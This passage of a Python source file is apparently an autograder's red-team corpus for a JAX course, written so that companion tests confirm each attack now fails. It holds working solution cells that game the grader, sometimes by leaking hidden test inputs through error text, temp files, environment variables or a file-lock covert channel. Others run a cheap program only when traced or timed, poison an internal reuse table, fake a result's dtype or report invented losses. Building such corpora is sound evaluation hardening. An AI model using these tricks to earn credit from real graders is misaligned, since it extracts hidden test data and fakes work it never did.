"""Attacks on what the grader still took on trust at b4b601d (issue 34): the red-team corpus.

`boundary.py` attacked the names, evidence, messages, reader and leftovers of issue 23; these attack
five assumptions that survived it. Every one was written before the fixes and run against main
b4b601d, where each one succeeded (`BEFORE` records what it got there, measured by grading it through
the CLI); `test_trust_attacks.py` checks that each now fails. The classes are the issue's:

  1  student text after hidden data: code that has seen a hidden input, or a hidden test's function,
     says it back in a later *visible* check (exception text, class name, source line, printed
     output, a returned dict's keys, an integrity violation's text), or lists the batch's cache
  2  what is traced is not what is graded: a function that runs one program eagerly (graded for
     correctness) and another when it is traced or timed (jit, retrace, structure, performance)
  3  look-alikes: a result that is not an array but says it is one, to a check that inspects
     results where the student's code runs
  4  self-reported outcomes: a check that judges a number the student's function reports about
     its own work (the loss of a training step, a printed mean)
  5  key use below the public API: a key consumed twice, once through an API the key-use watch
     does not see
  6  grader memory: a well-formed reply of hundreds of MB

Each attack replaces one solution cell (`exercise`) of a submission of `assignment`:
  - "boundary" is test_boundary.py's harness, `victim(x, k) = k * x` between two bystanders: its
    victim's cells are correctness (2 points, hidden inputs), performance (1, hidden reference),
    jit (1), retrace (1), structure (1: the jaxpr holds `mul`); HIDDEN_MARKERS are its hidden data;
  - the others are course assignments, built from source/ and cut down to the exercises in
    `ASSIGNMENTS` (their setup and test cells verbatim; demo cells dropped), every other exercise
    solved with the instructor's solution (the bystanders, which must keep full marks).

Keys of an attack:
  assignment, exercise   which solution cell is replaced, and by `cell`
  class                  1..6 above
  honest                 the points of the honest answer the attack started from (measured at b4b601d):
                         the most the attacked exercise may get now. Less is no false credit: a fix
                         that sees a function compute something else when traced may rightly take its
                         jit points too, and one that calls the trick tampering may give 0 with a
                         failed `integrity` check
  stolen                 the checks the trick passed at b4b601d, which must fail now
  integrity              True: the exercise must get 0 with a failed `integrity` check
  leak                   the texts none of which may appear in any student-facing text of the
                         result (every check's JSON message and its feedback-page text, `errors`); a
                         leak-only attack gives no points rule: whether a function that can no longer
                         leak is then graded in full is the fix's business
  markers_from           (test cell, text) that must still be in source/: the cell that computes the
                         hidden values the markers were taken from (else the markers are stale)
  also                   other solution cells the attack replaces ({exercise: cell}; not bystanders)
  notebook               the submission it shares with attacks on other exercises (default: its own)
  memory                 True: graded alone, in a grader process whose peak RSS must stay bounded
  cache                  True: graded alone, with the batch's compile cache (the main batch has none)
  BEFORE                 what it did against b4b601d
"""
from __future__ import annotations

import numpy as np

from hostile.boundary import HIDDEN_MARKERS

# The course assignments the corpus attacks, cut down to these exercises: (graded, solution only).
# Graded: the attacked exercises and a bystander, their test cells verbatim from source/; solution
# only: what the graded solutions call (no test cells, so 0 points of 0).
ASSIGNMENTS = {
    "01_jax_basics": (("weighted_mean", "split_and_sample"), ()),
    "03_control_flow": (("repeated_square", "collatz_steps", "halve_if_wide"), ()),
    "04_pytrees_mlp": (("sgd_step", "train_step"), ("mlp_forward", "mlp_forward_batch")),
    "05_autodiff": (("second_derivative", "nth_derivative"), ()),
    "06_tracing_and_purity": (("debug_mean", "shifted"), ()),
    "08_numerics_and_performance": (("pairwise_sq_dists", "stable_logsumexp"), ()),
}


# ---------------------------------------------------------------- hidden values of the course's tests
def _digits(value: float, n: int = 7) -> str:
    """The first `n` characters of a float's repr: the prefix any printing of it starts with."""
    return repr(float(value))[:n]


# 05_autodiff: the derivative rules only the hidden tests know are scaled by random constants
# (K1, K2): in nth_derivative_correctness, and other ones in second_derivative_correctness.
NTH_K_MARKERS = (_digits(np.random.default_rng(5052).uniform(2.0, 3.0)),
                 _digits(np.random.default_rng(5152).uniform(4.0, 5.0)))
SECOND_K_MARKERS = (_digits(np.random.default_rng(5051).uniform(2.0, 3.0)),
                    _digits(np.random.default_rng(5151).uniform(4.0, 5.0)))
# 06_tracing_and_purity, debug_mean_correctness: a hidden 4x5x3 input.
_X60 = np.random.default_rng(60).normal(size=(4, 5, 3)).astype(np.float32).ravel()
X60_MARKERS = tuple(f"{float(v):.6f}" for v in _X60[:3])
# 01_jax_basics, weighted_mean_correctness: 50 hidden values and weights.
_rng17 = np.random.default_rng(17)
_V50 = _rng17.normal(size=50).astype(np.float32)
V50_MARKERS = tuple(f"{float(v):.5f}" for v in _V50[:3])
# The batch's compile cache: where it lives and what it holds.
CACHE_MARKERS = ("compile-cache", "manifest.json", "batch-")


# ---------------------------------------------------------------- honest but imperfect answers
# (what each attack starts from: the points these earn are the attack's honest score)
NONJIT = "def victim(x, k):\n    if float(k) > 0:\n        return k * x\n    return k * x\n"   # 2 of 6

# ---------------------------------------------------------------- 1. student text after hidden data
# The boundary victim's visible inputs are k = 2.0 and -1.0; anything else is the hidden test's.
_REMEMBER = (
    "def _hidden(x, k):\n"
    "    try:\n"
    "        if float(k) not in (2.0, -1.0):          # not an input of the visible tests\n"
    "            return repr((np.asarray(x).tolist(), float(k)))\n"
    "    except Exception:                             # traced: no value to read\n"
    "        pass\n"
    "    return None\n"
)

ATTACKS = {
    "stash_in_global": {
        "class": 1, "assignment": "boundary", "exercise": "victim", "leak": HIDDEN_MARKERS,
        "cell": ("import numpy as np\n" + _REMEMBER +
                 "_seen = []\n"
                 "def victim(x, k):\n"
                 "    if _seen:\n"
                 "        raise ValueError('inputs seen so far: ' + '; '.join(_seen))\n"
                 "    note = _hidden(x, k)\n"
                 "    if note:\n"
                 "        _seen.append(note)\n"
                 "    return k * x\n"),
        "BEFORE": "3/6: the hidden input, kept in a module global, was raised as the exception's text in the "
                  "visible jit check: '([13.5, 13.5, 13.5, 13.5], 0.4375)' in the JSON messages and the "
                  "feedback of victim_jit, _retrace and _structure"},
    "stash_in_builtins_as_class_name": {
        "class": 1, "assignment": "boundary", "exercise": "victim", "leak": HIDDEN_MARKERS,
        "cell": ("import builtins\nimport numpy as np\n" + _REMEMBER +
                 "def victim(x, k):\n"
                 "    seen = getattr(builtins, '_victim_seen', None)\n"
                 "    if seen is not None:\n"
                 "        raise type('HiddenInput ' + seen, (Exception,), {})()\n"
                 "    note = _hidden(x, k)\n"
                 "    if note:\n"
                 "        builtins._victim_seen = note\n"
                 "    return k * x\n"),
        "BEFORE": "3/6: kept as an attribute of builtins (an added attribute is allowed), raised as an "
                  "exception class named 'HiddenInput ([13.5, 13.5, 13.5, 13.5], 0.4375)' with no message: the "
                  "class name was in the visible jit, retrace and structure messages"},
    "stash_in_tmp_file_as_source_line": {
        "class": 1, "assignment": "boundary", "exercise": "victim", "leak": HIDDEN_MARKERS,
        "cell": ("import os\nimport numpy as np\n" + _REMEMBER +
                 "_NOTE = '/tmp/victim_note.txt'\n"
                 "_HELPER = '/tmp/victim_helper.py'\n"
                 "def victim(x, k):\n"
                 "    if os.path.exists(_NOTE):\n"
                 "        with open(_NOTE) as fh:\n"
                 "            note = fh.read()\n"
                 "        source = 'def check_inputs():\\n    raise RuntimeError()  # ' + note + '\\n'\n"
                 "        with open(_HELPER, 'w') as fh:\n"
                 "            fh.write(source)\n"
                 "        helper = {}\n"
                 "        exec(compile(source, _HELPER, 'exec'), helper)\n"
                 "        helper['check_inputs']()     # an exception with no message, raised on that line\n"
                 "    note = _hidden(x, k)\n"
                 "    if note:\n"
                 "        with open(_NOTE, 'w') as fh:\n"
                 "            fh.write(note)\n"
                 "    return k * x\n"),
        "BEFORE": "3/6: kept in /tmp, raised with no message from a line of a helper file whose comment holds "
                  "it: the `where` line `raise RuntimeError()  # ([13.5, 13.5, 13.5, 13.5], 0.4375)` was quoted "
                  "in the visible jit, retrace and structure messages"},
    "lock_files_while_the_clean_worker_runs": {
        # a live channel between two workers of one submission: file locks on files both can read
        # (the standard library's), taken by the tainted worker and tried by the clean one
        "class": 1, "assignment": "boundary", "exercise": "victim", "leak": HIDDEN_MARKERS,
        "cell": ("import fcntl, os\nimport numpy as np\n" + _REMEMBER +
                 "_DIR = os.path.dirname(os.__file__)\n"
                 "_FILES = sorted(f for f in os.listdir(_DIR) if f.endswith('.py'))[:16]\n"
                 "_held = []\n"
                 "def _listen():\n"
                 "    value = 0\n"
                 "    for i, name in enumerate(_FILES):\n"
                 "        fd = os.open(os.path.join(_DIR, name), os.O_RDONLY)\n"
                 "        try:\n"
                 "            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
                 "        except OSError:\n"
                 "            value |= 1 << i\n"
                 "        finally:\n"
                 "            os.close(fd)\n"
                 "    return value\n"
                 "def victim(x, k):\n"
                 "    if _held:\n"
                 "        raise ValueError('a visible failure, so that a clean worker runs this cell')\n"
                 "    heard = _listen()\n"
                 "    if heard:\n"
                 "        raise ValueError(f'heard {heard / 10000}')\n"
                 "    if _hidden(x, k):\n"
                 "        bits = int(round(float(k) * 10000))\n"
                 "        for i, name in enumerate(_FILES):\n"
                 "            if bits >> i & 1:\n"
                 "                fd = os.open(os.path.join(_DIR, name), os.O_RDONLY)\n"
                 "                fcntl.flock(fd, fcntl.LOCK_EX)\n"
                 "                _held.append(fd)\n"
                 "    return k * x\n"),
        "BEFORE": "(written after a blind red team's version through /proc/sys/fs/file-nr; measured at 39ea441) "
                  "the clean worker, started while the tainted one still held its locks, raised 'heard "
                  "0.4375' in the visible jit check, and that message was shown"},
    "integrity_violation_names_the_input": {
        "class": 1, "assignment": "boundary", "exercise": "victim", "integrity": True,
        "leak": HIDDEN_MARKERS,
        "cell": ("import jax\nimport numpy as np\n" + _REMEMBER +
                 "def victim(x, k):\n"
                 "    note = _hidden(x, k)\n"
                 "    if note:\n"
                 "        setattr(jax.Array, 'seen ' + note, None)   # reported by name as an added attribute\n"
                 "    return k * x\n"),
        "BEFORE": "0/6 with integrity, as it should, but the violation's text named the hidden input: "
                  "'jax.jaxlib._jax.Array.seen ([13.5, 13.5, 13.5, 13.5], 0.4375) was added' in "
                  "victim_integrity's message and in every later check's"},
    "list_the_batch_cache": {
        "class": 1, "assignment": "boundary", "exercise": "victim", "leak": CACHE_MARKERS,
        "cache": True,
        "cell": ("import os\nimport jax\n"
                 "def _cache_listing():\n"
                 "    try:\n"
                 "        from jax._src import compilation_cache\n"
                 "        folder = getattr(compilation_cache._cache, '_path', '') or ''\n"
                 "        return folder + ': ' + ', '.join(sorted(os.listdir(folder))[:5]) if folder else ''\n"
                 "    except Exception:\n"
                 "        return ''\n"
                 "def victim(x, k):\n"
                 "    listing = _cache_listing()\n"
                 "    if listing and isinstance(x, jax.core.Tracer):\n"
                 "        raise ValueError('the cache: ' + listing)\n"
                 "    return k * x\n"),
        "BEFORE": "3/6: the worker found the sealed cache folder (jax's compilation_cache._cache._path) and "
                  "listed it; '/root/.cache/jax-course/compile-cache/batch-<pid>-boundary-<x>: "
                  "jit_broadcast_in_dim-<sha>.bin, jit_bystander_a-<sha>.bin, ...' came back in the visible "
                  "jit, retrace and structure messages"},
    "hidden_function_globals": {
        "class": 1, "notebook": "05_two_leaks",
        "assignment": "05_autodiff", "exercise": "nth_derivative", "leak": NTH_K_MARKERS,
        "markers_from": ("nth_derivative_correctness", "np.random.default_rng(5052).uniform(2.0, 3.0)"),
        "cell": ("import jax\n"
                 "def _constants(f):\n"
                 "    \"\"\"Floats reachable from a function: its derivative rules, the globals its code names.\"\"\"\n"
                 "    found, stack, seen = [], [f], set()\n"
                 "    while stack:\n"
                 "        obj = stack.pop()\n"
                 "        if isinstance(obj, float):\n"
                 "            found.append(obj)\n"
                 "            continue\n"
                 "        if id(obj) in seen:\n"
                 "            continue\n"
                 "        seen.add(id(obj))\n"
                 "        stack += [getattr(obj, a) for a in ('fun', 'jvp') if getattr(obj, a, None) is not None]\n"
                 "        code = getattr(obj, '__code__', None)\n"
                 "        if code is not None:\n"
                 "            names = getattr(obj, '__globals__', {})\n"
                 "            stack += [names[n] for n in code.co_names if n in names]\n"
                 "    return found\n"
                 "_test_constants = []\n"
                 "def nth_derivative(f, n):\n"
                 "    if hasattr(f, 'jvp') and not _test_constants:   # a custom_jvp function: the hidden tests' own\n"
                 "        _test_constants.extend(_constants(f))\n"
                 "    for _ in range(n):\n"
                 "        f = jax.grad(f)\n"
                 "    if not _test_constants:\n"
                 "        return f\n"
                 "    def told(x):\n"
                 "        if isinstance(x, jax.core.Tracer):\n"
                 "            raise ValueError()       # fails under jit: the check's title names the function\n"
                 "        return f(x)\n"
                 "    told.__name__ = 'K=' + ','.join(map(repr, _test_constants))\n"
                 "    return told\n"),
        "BEFORE": "2/3: the hidden custom_jvp function `_probe` handed to nth_derivative led, through its "
                  "rule's and its slope's __globals__, to the hidden constants K1 = 2.951550553517584 and K2 = "
                  "4.392819174407242; the function nth_derivative then returned was named "
                  "'K=4.392819174407242,2.951550553517584' and failed under jit, so the visible "
                  "nth_derivative_jit check's title quoted both"},
    "hidden_probe_closure": {
        "class": 1, "notebook": "05_two_leaks",
        "assignment": "05_autodiff", "exercise": "second_derivative",
        "leak": SECOND_K_MARKERS,
        "markers_from": ("second_derivative_correctness", "np.random.default_rng(5051).uniform(2.0, 3.0)"),
        "cell": ("import jax\n"
                 "_rule_constants = []\n"
                 "def second_derivative(f):\n"
                 "    if _rule_constants:\n"
                 "        raise ValueError(f'the closure of a rule the tests gave me: {_rule_constants}')\n"
                 "    rule = getattr(f, 'jvp', None)\n"
                 "    for cell in getattr(rule, '__closure__', None) or ():\n"
                 "        try:\n"
                 "            if isinstance(cell.cell_contents, float):\n"
                 "                _rule_constants.append(cell.cell_contents)\n"
                 "        except ValueError:\n"
                 "            pass\n"
                 "    return jax.grad(jax.grad(f))\n"),
        "BEFORE": "2/3: the custom_jvp function the hidden gather probe `_rule_calls` built carries K1 in its "
                  "rule's closure; second_derivative read it (2.2348368491831376) and raised it in the visible "
                  "second_derivative_jit call: 'your code raised ValueError: the closure of a rule the tests "
                  "gave me: [2.2348368491831376]'"},
    "hidden_input_printed": {
        "class": 1, "assignment": "06_tracing_and_purity", "exercise": "debug_mean",
        "leak": X60_MARKERS,
        "markers_from": ("debug_mean_correctness", "np.random.default_rng(60)"),
        "cell": ("import jax\nimport jax.numpy as jnp\nimport numpy as np\n"
                 "_inputs = []\n"
                 "def debug_mean(x):\n"
                 "    m = jnp.mean(x)\n"
                 "    if isinstance(x, jax.core.Tracer):\n"
                 "        for line in _inputs:\n"
                 "            print(line)             # once, while tracing: one line too many\n"
                 "    elif np.size(x) > 4:             # larger than any visible input\n"
                 "        _inputs.append(' '.join(f'{v:.6f}' for v in np.asarray(x).ravel()[:12]))\n"
                 "    jax.debug.print('mean={m}', m=m)\n"
                 "    return m\n"),
        "BEFORE": "3/4: the hidden 4x5x3 input of debug_mean_correctness, printed while tracing in the visible "
                  "debug_mean_jit_2, was quoted as an extra printed line: '-1.051224 -0.361987 0.811626 "
                  "-1.251231 ...'"},
    "hidden_input_as_dict_keys": {
        "class": 1, "notebook": "01_keys_and_impl_split",
        "assignment": "01_jax_basics", "exercise": "weighted_mean",
        "leak": V50_MARKERS,
        "markers_from": ("weighted_mean_correctness", "np.random.default_rng(17)"),
        "cell": ("import jax.numpy as jnp\nimport numpy as np\n"
                 "_seen = []\n"
                 "def weighted_mean(values, weights):\n"
                 "    v = jnp.asarray(values, dtype=jnp.float32)\n"
                 "    w = jnp.asarray(weights, dtype=jnp.float32)\n"
                 "    result = jnp.sum(w * v) / jnp.sum(w)\n"
                 "    if v.size > 3:                   # larger than any visible input\n"
                 "        _seen.append(' '.join(f'{float(a):.5f}' for a in np.asarray(v)[:6]))\n"
                 "    if _seen and isinstance(values, list):   # a later (visible) test with lists\n"
                 "        return {'seen ' + _seen[0]: result}\n"
                 "    return result\n"),
        "BEFORE": "2/4: the 50 hidden values of weighted_mean_correctness came back as the key of a dict "
                  "returned to the visible weighted_mean_correctness_2: 'got PyTreeDef({'seen 1.10126 0.33843 "
                  "-0.53997 -1.26024 -1.89462 0.01864': *})'"},
    "told_by_another_exercise": {
        "class": 1, "assignment": "06_tracing_and_purity", "exercise": "shifted",
        "leak": X60_MARKERS,
        "markers_from": ("debug_mean_correctness", "np.random.default_rng(60)"),
        "also": {"debug_mean": ("import os\nimport jax\nimport jax.numpy as jnp\nimport numpy as np\n"
                                "def debug_mean(x):\n"
                                "    if not isinstance(x, jax.core.Tracer) and np.size(x) > 4:\n"
                                "        seen = np.asarray(x).ravel()[:12]\n"
                                "        os.environ['DEBUG_MEAN_INPUT'] = ' '.join(f'{v:.6f}' for v in seen)\n"
                                "    m = jnp.mean(x)\n"
                                "    jax.debug.print('mean={m}', m=m)\n"
                                "    return m\n")},
        "cell": ("import os\n"
                 "def shifted(x, shift):\n"
                 "    if 'DEBUG_MEAN_INPUT' in os.environ:     # set by another exercise's hidden test\n"
                 "        raise ValueError(os.environ['DEBUG_MEAN_INPUT'])\n"
                 "    return x + shift\n"),
        "BEFORE": "0/4 for shifted, 4/4 for debug_mean: debug_mean kept its hidden input in os.environ, shifted "
                  "raised it in its visible correctness, jit and retrace checks: 'your code raised ValueError: "
                  "-1.051224 -0.361987 0.811626 ...'"},
    # ---------------------------------------------------------------- 2. what is traced is not what is graded
    "tracer_gets_a_cheap_program": {
        "class": 2, "assignment": "boundary", "exercise": "victim", "honest": 2.0,
        "stolen": ("victim_performance", "victim_jit", "victim_retrace", "victim_structure"),
        "cell": ("import jax\n"
                 "def victim(x, k):\n"
                 "    if isinstance(x, jax.core.Tracer) or isinstance(k, jax.core.Tracer):\n"
                 "        return 0.5 * k * x        # what jit, retrace, structure and timing see: wrong\n"
                 + "".join(line + "\n" for line in NONJIT.splitlines()[1:])),   # what correctness sees
        "BEFORE": "6/6 (honest: 2/6): jit, retrace, structure and performance all passed on 0.5 * k * x, which "
                  "only a tracer ever sees"},
    "timed_input_gets_a_cheap_program": {
        "class": 2, "assignment": "boundary", "exercise": "victim", "honest": 5.0,
        "stolen": ("victim_performance",),
        "cell": ("import jax.numpy as jnp\nfrom jax import lax\n"
                 "def victim(x, k):\n"
                 "    if x.size >= 128 * 128:       # the size the performance check times\n"
                 "        return k + x              # fast, wrong\n"
                 "    # right, but 512 rolls of the whole array: far slower than k * x\n"
                 "    return lax.fori_loop(0, 4 * x.shape[0], lambda i, y: jnp.roll(y, 1, axis=0), k * x)\n"),
        "BEFORE": "6/6 (honest: 5/6, the slow right answer fails the performance check): the 128x128 timed "
                  "input got k + x"},
    "fast_only_where_the_first_call_is_traced": {
        # a blind red team's: the timing worker is the one process whose first call of the function
        # is a trace; everywhere else the correctness calls come first
        "class": 2, "assignment": "boundary", "exercise": "victim", "honest": 5.0,
        "stolen": ("victim_performance",),
        "cell": ("import jax\nimport jax.numpy as jnp\nfrom jax import lax\n_first = []\n"
                 "def victim(x, k):\n"
                 "    if not _first:\n"
                 "        _first.append(isinstance(x, jax.core.Tracer))\n"
                 "    if _first[0]:\n"
                 "        return k * x              # right and fast: where the first call was traced\n"
                 "    # right, but 4n rolls of the whole array: far slower than k * x\n"
                 "    return lax.fori_loop(0, 4 * x.shape[0], lambda i, y: jnp.roll(y, 1, axis=0), k * x)\n"),
        "BEFORE": "(measured at 39ea441) 6/6 (honest: 5/6, the slow right answer fails the performance check): "
                  "the timing worker traced k * x, every other check the rolls"},
    "fast_only_where_xla_flags_are_not_quick": {
        # a variation of the one above on a signal added on 2026-11-30: the correctness workers' XLA_FLAGS
        # carry compile_effort.QUICK_XLA_FLAGS, the timing worker's do not
        "class": 2, "assignment": "boundary", "exercise": "victim", "honest": 5.0,
        "stolen": ("victim_performance",),
        "cell": ("import os\nimport jax.numpy as jnp\nfrom jax import lax\n"
                 "def victim(x, k):\n"
                 "    if 'fusion_emitters=false' not in os.environ.get('XLA_FLAGS', ''):\n"
                 "        return k * x              # right and fast: where compiles are not quick\n"
                 "    # right, but 4n rolls of the whole array: far slower than k * x\n"
                 "    return lax.fori_loop(0, 4 * x.shape[0], lambda i, y: jnp.roll(y, 1, axis=0), k * x)\n"),
        "BEFORE": "(not an attack before 40bd871: no worker's XLA_FLAGS held the flag, so every check saw k * x, "
                  "an honest right answer) at 40bd871 the signal exists; the timed program must be the graded one"},
    "poisoned_eager_reuse_table": {
        # a variation on a structure added on 2026-11-30 (sandbox/eager_reuse.py): the correctness worker's
        # table from an eager loop's program to the one it runs, reachable through the dispatch function's
        # closure. The student maps the program of a loop that never squares to one that does, so direct
        # calls come out right while every trace is of the loop that never squares
        "class": 2, "notebook": "03_loop_and_cond",
        "assignment": "03_control_flow", "exercise": "repeated_square", "honest": 2.0,
        "stolen": ("repeated_square_jit", "repeated_square_retrace", "repeated_square_structure",
                   "repeated_square_performance"),
        "cell": ("import jax\nfrom jax import lax\nfrom jax._src import dispatch\n"
                 "def _squares(x, n):\n"
                 "    return lax.fori_loop(0, n, lambda i, v: v * v, x)\n"
                 "def _never(x, n):\n"
                 "    return lax.fori_loop(0, n, lambda i, v: v * 1.0, x)   # never squares\n"
                 "def _tables(f, depth=0):\n"
                 "    for c in getattr(f, '__closure__', None) or ():\n"
                 "        if isinstance(c.cell_contents, dict):\n"
                 "            yield c.cell_contents\n"
                 "        elif callable(c.cell_contents) and depth < 3:\n"
                 "            yield from _tables(c.cell_contents, depth + 1)\n"
                 "def _body(f, x, n):\n"
                 "    return jax.make_jaxpr(lambda v: f(v, n))(x).eqns[0].params['jaxpr']\n"
                 "def repeated_square(x, n):\n"
                 "    try:\n"
                 "        from autograder.sandbox import eager_reuse\n"
                 "        from jax._src import core, mesh\n"
                 "        table = next(_tables(dispatch.xla_primitive_callable))\n"
                 "        key = eager_reuse._program_key(_body(_never, x, int(n)), core, mesh)\n"
                 "        table[key] = _body(_squares, x, int(n))\n"
                 "    except Exception:\n"
                 "        pass\n"
                 "    return _never(x, n)\n"),
        "BEFORE": "(not an attack before 2026-11-30: no table) direct calls squared, every trace never did"},
    "numpy_eagerly_a_loop_when_traced": {
        "class": 2, "notebook": "03_loop_and_cond",
        "assignment": "03_control_flow", "exercise": "repeated_square", "honest": 2.0,
        "stolen": ("repeated_square_jit", "repeated_square_retrace", "repeated_square_structure",
                   "repeated_square_performance"),
        "cell": ("import jax.numpy as jnp\nimport numpy as np\nfrom jax import lax\n"
                 "def repeated_square(x, n):\n"
                 "    try:\n"
                 "        y, times = np.asarray(x, dtype=np.float32), int(n)   # fails on a tracer\n"
                 "    except Exception:\n"
                 "        return lax.fori_loop(0, n, lambda i, v: v, x)       # traced: a loop that never squares\n"
                 "    for _ in range(times):\n"
                 "        y = y * y\n"
                 "    return jnp.asarray(y)\n"),
        "BEFORE": "6/6 (honest NumPy loop: 2/6): jit, retrace, structure (has a while, not unrolled) and the "
                  "compile-time check passed on a fori_loop that never squares"},
    "python_if_eagerly_a_cond_when_traced": {
        "class": 2, "notebook": "03_loop_and_cond",
        "assignment": "03_control_flow", "exercise": "halve_if_wide",
        "honest": 2.0,
        "stolen": ("halve_if_wide_jit", "halve_if_wide_structure"),
        "cell": ("import jax\nimport jax.numpy as jnp\nfrom jax import lax\n"
                 "def halve_if_wide(x):\n"
                 "    spread = jnp.max(x) - jnp.min(x)\n"
                 "    try:\n"
                 "        wide = bool(jnp.abs(spread) > 1.0)\n"
                 "    except jax.errors.TracerBoolConversionError:   # traced: a cond that never halves\n"
                 "        return lax.cond(spread > 1.0, lambda v: v, lambda v: v, x)\n"
                 "    return x / 2 if wide else x\n"),
        "BEFORE": "4/4 (honest Python if: 2/4): jit and the 2-branch cond check passed on a cond whose branches "
                  "both return x"},
    "broadcast_eagerly_matmul_when_traced": {
        "class": 2, "notebook": "08_matmul_and_attribute",
        "assignment": "08_numerics_and_performance", "exercise": "pairwise_sq_dists", "honest": 3.0,
        "stolen": ("pairwise_sq_dists_structure", "pairwise_sq_dists_performance"),
        "cell": ("import jax.numpy as jnp\n"
                 "def pairwise_sq_dists(x, y):\n"
                 "    if type(x).__name__.endswith('Tracer') and x.shape[0] >= 256:   # traced at the checked sizes\n"
                 "        return jnp.maximum(-2.0 * (x @ y.T), 0.0)     # small and fast, but wrong\n"
                 "    d = x[:, None, :] - y[None, :, :]                 # right, with an (n, m, d) intermediate\n"
                 "    return jnp.sum(d * d, axis=-1)\n"),
        "BEFORE": "6/6 (honest broadcast: 3/6): the structure check (no n*m*d intermediate) and the 2-point "
                  "run-time check passed on -2 x @ y.T, traced at the checked sizes only"},
    # ---------------------------------------------------------------- 3. look-alikes
    "bfloat16_by_attribute": {
        "class": 3, "notebook": "08_matmul_and_attribute",
        "assignment": "08_numerics_and_performance", "exercise": "stable_logsumexp", "honest": 4.0,
        "stolen": ("stable_logsumexp_correctness_2",),
        "cell": ("import jax\nimport jax.numpy as jnp\nimport numpy as np\n"
                 "class _Result:\n"
                 "    \"\"\"float32 values that say they are bfloat16.\"\"\"\n"
                 "    dtype = jnp.dtype(jnp.bfloat16)\n"
                 "    def __init__(self, values):\n"
                 "        self.values = values\n"
                 "        self.shape = values.shape\n"
                 "    def __array__(self, dtype=None, copy=None):\n"
                 "        return np.asarray(self.values, dtype=dtype)\n"
                 "def stable_logsumexp(x):\n"
                 "    x32 = x.astype(jnp.float32)\n"
                 "    c = jnp.max(x32, axis=-1, keepdims=True)\n"
                 "    out = c[..., 0] + jnp.log(jnp.sum(jnp.exp(x32 - c), axis=-1))   # float32: no cast back\n"
                 "    if x.dtype == jnp.bfloat16 and not isinstance(x, jax.core.Tracer):\n"
                 "        return _Result(out)\n"
                 "    return out\n"),
        "BEFORE": "5/5 (honest float32 out: 4/5): the worker-side probe read dtype 'bfloat16' from the object's "
                  "attribute and float32 values from its __array__"},
    "bfloat16_by_ndarray_subclass": {
        "class": 3,
        "assignment": "08_numerics_and_performance", "exercise": "stable_logsumexp", "honest": 4.0,
        "stolen": ("stable_logsumexp_correctness_2",),
        "cell": ("import jax\nimport jax.numpy as jnp\nimport numpy as np\n"
                 "class _Bf16(np.ndarray):\n"
                 "    @property\n"
                 "    def dtype(self):              # the buffer stays float32\n"
                 "        return jnp.dtype(jnp.bfloat16)\n"
                 "def stable_logsumexp(x):\n"
                 "    x32 = x.astype(jnp.float32)\n"
                 "    c = jnp.max(x32, axis=-1, keepdims=True)\n"
                 "    out = c[..., 0] + jnp.log(jnp.sum(jnp.exp(x32 - c), axis=-1))\n"
                 "    if x.dtype == jnp.bfloat16 and not isinstance(x, jax.core.Tracer):\n"
                 "        return np.asarray(out).view(_Bf16)\n"
                 "    return out\n"),
        "BEFORE": "5/5 (honest: 4/5): a float32 np.ndarray subclass whose dtype property says bfloat16 passed "
                  "the same probe"},
    # ---------------------------------------------------------------- 4. self-reported outcomes
    "made_up_shrinking_loss": {
        "class": 4, "assignment": "04_pytrees_mlp", "exercise": "train_step", "honest": 2.0,
        "stolen": ("train_step_correctness_2",),
        "cell": ("import jax\nimport jax.numpy as jnp\n"
                 "_steps = [0]\n"
                 "def train_step(params, xs, ys, lr):\n"
                 "    def loss_fn(p):\n"
                 "        return jnp.mean((mlp_forward_batch(p, xs) - ys) ** 2)\n"
                 "    loss, grads = jax.value_and_grad(loss_fn)(params)\n"
                 "    new_params = sgd_step(params, grads, lr)\n"
                 "    _steps[0] += 1\n"
                 "    # the update is lost (the old params go back), and the loss reported goes down anyway\n"
                 "    return params, loss * 0.8 ** _steps[0]\n"),
        "BEFORE": "3/5 (honest, the update lost: 2/5): the chained-loss check passed on losses 0.6656 * 0.8 ** "
                  "t while the params never changed"},
    "made_up_printed_mean": {
        "class": 4, "assignment": "06_tracing_and_purity", "exercise": "debug_mean", "honest": 3.0,
        "stolen": ("debug_mean_jit_2",),
        "cell": ("import jax\nimport jax.numpy as jnp\n"
                 "def debug_mean(x):\n"
                 "    m = jnp.mean(x)\n"
                 "    if isinstance(x, jax.core.Tracer):\n"
                 "        jax.debug.print('mean=0.0')     # a line per compiled call, not the mean\n"
                 "    else:\n"
                 "        print(f'mean={float(m)}')\n"
                 "    return m\n"),
        "BEFORE": "4/4 (honest Python print: 3/4): debug_mean_jit_2 passed on 'mean=0.0' printed by every "
                  "compiled call, whatever the mean"},
    # ---------------------------------------------------------------- 5. key use below the public API
    "second_split_by_the_impl": {
        "class": 5, "notebook": "01_keys_and_impl_split",
        "assignment": "01_jax_basics", "exercise": "split_and_sample", "honest": 4.0,
        "stolen": ("split_and_sample_correctness_2",),
        "cell": ("import jax\nimport jax.extend.random as jxr\n"
                 "def split_and_sample(key, n, shape):\n"
                 "    keys = jax.random.split(key, n + 1)\n"
                 "    samples = jax.vmap(lambda k: jax.random.normal(k, shape))(keys[1:])\n"
                 "    again = jxr.threefry_prng_impl.split(jax.random.key_data(key), (n + 1,))   # key used again\n"
                 "    return jax.random.wrap_key_data(again[0]), samples\n"),
        "BEFORE": "5/5 (honest double split: 4/5): the second split of `key`, by "
                  "jax.extend.random.threefry_prng_impl.split on its key data, was not seen"},
    "second_split_by_the_primitive": {
        "class": 5, "assignment": "01_jax_basics", "exercise": "split_and_sample", "honest": 4.0,
        "stolen": ("split_and_sample_correctness_2",),
        "cell": ("import jax\nimport jax.numpy as jnp\nimport jax.extend.random as jxr\n"
                 "def split_and_sample(key, n, shape):\n"
                 "    keys = jax.random.split(key, n + 1)\n"
                 "    samples = jax.vmap(lambda k: jax.random.normal(k, shape))(keys[1:])\n"
                 "    k1, k2 = jax.random.key_data(key)                 # the split again, from the hash itself\n"
                 "    hi, lo = jxr.threefry2x32_p.bind(k1, k2, jnp.zeros(n + 1, jnp.uint32),\n"
                 "                                     jnp.arange(n + 1, dtype=jnp.uint32))\n"
                 "    return jax.random.wrap_key_data(jnp.stack([hi, lo], axis=1)[0]), samples\n"),
        "BEFORE": "5/5 (honest: 4/5): the second split, by threefry2x32_p.bind on the key data, was not seen"},
    "second_split_under_another_impl": {
        "class": 5, "assignment": "01_jax_basics", "exercise": "split_and_sample", "honest": 4.0,
        "stolen": ("split_and_sample_correctness_2",),
        "cell": ("import jax\nimport jax.extend.random as jxr\n"
                 "_fry = jxr.threefry_prng_impl\n"
